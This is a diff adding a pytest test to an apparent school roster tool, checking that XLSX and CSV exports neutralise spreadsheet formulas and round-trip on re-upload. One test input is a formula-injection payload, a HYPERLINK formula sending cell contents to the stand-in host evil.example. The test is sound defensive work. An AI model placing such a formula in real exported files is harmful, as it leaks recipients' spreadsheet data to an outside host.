@@ -238,3 +238,34 @@ def test_the_directory_refuses_an_over_long_name_from_any_source(example: School
     document["students"][0]["name"] = "张" * 51
     with pytest.raises(ValueError, match="at most 50 characters"):
         School.model_validate(document)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+
+
+def test_an_export_writes_no_live_formula_and_reads_back_what_it_wrote(example: School) -> None:
+    students = list(example.students)
+    for n, text in enumerate(FORMULAS):
+        guardians = tuple(g.model_copy(update={"relation": text[:20]}) for g in students[n].guardians)
+        students[n] = students[n].model_copy(update={"name": text, "guardians": guardians})
+    staff = [example.staff[0].model_copy(update={"name": "=1+2"}), *example.staff[1:]]
+    school = example.model_copy(update={"students": tuple(students), "staff": tuple(staff)})
+
+    book = load_workbook(io.BytesIO(roster_files.workbook(school)))  # as Excel would: formulas are formulas
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    names = [book["学生"].cell(n + 2, 2).value for n in range(len(FORMULAS))]
+    assert names == ["'" + text for text in FORMULAS]
+    assert str(_cell(book, "学生", 2, "家长1电话").value).startswith("1"), "a mainland mobile is written without +86"
+    assert roster_files.neutralised("\t=1+1") == "'\t=1+1" and roster_files.neutralised("\r=1") == "'\r=1"
+    for kind in ("students", "staff"):
+        rows = roster_files.csv_file(kind, school).decode("utf-8-sig").splitlines()
+        assert not any(field.startswith(roster_files.FORMULA_STARTS) for line in rows for field in line.split(","))
+
+    for upload in ([("file", "roster.xlsx", roster_files.workbook(school))],
+                   [(kind, f"{kind}.csv", roster_files.csv_file(kind, school)) for kind in roster_files.SHEETS]):
+        checked = check_roster(school, read_upload(upload))
+        assert checked.school is not None, [str(p) for p in checked.problems]
+        assert [s.name for s in checked.school.students[:len(FORMULAS)]] == FORMULAS
+        assert checked.school.staff[0].name == "=1+2"
+        assert checked.school.model_dump() == school.model_dump(), "download, upload: the same directory"
